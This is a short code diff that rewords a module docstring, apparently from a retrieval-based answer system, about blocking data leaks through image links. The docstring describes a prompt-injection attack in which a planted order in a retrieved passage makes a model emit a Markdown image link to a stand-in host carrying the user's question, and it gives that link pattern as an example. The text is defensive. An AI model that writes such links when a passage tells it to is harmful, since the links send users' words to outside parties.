@@ -1,8 +1,8 @@
 """Addresses in answers: a picture is fetched when it is shown, so an answer may send what was said to any host.
 
 An order in a passage makes a model write ``![](https://host/?q=what the user asked)``; a chat window that shows
-Markdown then sends it. Shown are therefore only addresses that a passage, the question or a source name holds letter
-for letter, and pictures only from passages that do not look like an attack themselves.
+Markdown then sends it. So an answer shows only addresses that a passage, the question or a source name holds letter for
+letter. It shows pictures only from passages that do not look like an attack themselves.
 """
 
 from __future__ import annotations
